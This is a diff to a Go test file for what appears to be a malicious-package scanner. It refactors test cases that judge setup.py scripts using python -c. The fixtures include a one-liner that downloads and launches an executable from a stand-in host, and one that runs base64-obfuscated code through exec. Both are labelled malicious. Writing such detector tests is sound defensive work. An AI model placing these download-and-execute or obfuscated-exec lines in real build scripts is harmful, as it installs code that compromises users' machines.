@@ -5,28 +5,13 @@ import "testing"
 // Code run with python -c is judged as code, next to the build-time
 // one-liners setup scripts run the same way.
 func TestPythonCPayloads(t *testing.T) {
-	tests := []struct {
-		name    string
-		files   map[string]string
-		rule    string
-		verdict Verdict
-	}{
+	tests := []verdictCase{
 		{"python -c in a list fetching and starting a program", map[string]string{"setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import urllib.request, os; urllib.request.urlretrieve('https://example.invalid/x.exe', 'x.exe'); os.startfile('x.exe')\"])\n"}, "download-execute", Malicious},
 		{"python -c in a shell string running decoded code", map[string]string{"setup.py": "import os\nos.system('python3 -c \"import base64; exec(base64.b64decode(\\'" + b64("import os; os.system('id')") + "\\'))\"')\n"}, "exec-obfuscated", Malicious},
 		{"python -c asking numpy for its headers", map[string]string{"setup.py": "import subprocess, sys\ninc = subprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\n"}, "", Clean},
 		{"python -c printing the version in a shell string", map[string]string{"setup.py": "import os\nos.system('python -c \"import sys; print(sys.version)\"')\n"}, "", Clean},
 	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			r := sdist(t, tt.files)
-			if r.Verdict != tt.verdict {
-				t.Errorf("verdict %s, want %s; findings: %+v", r.Verdict, tt.verdict, r.Findings)
-			}
-			if tt.rule != "" && !hasRule(r, tt.rule, Critical) {
-				t.Errorf("no critical %s finding: %+v", tt.rule, r.Findings)
-			}
-		})
-	}
+	runVerdictCases(t, tests, nil)
 }
 
 func TestUnquoteShell(t *testing.T) {
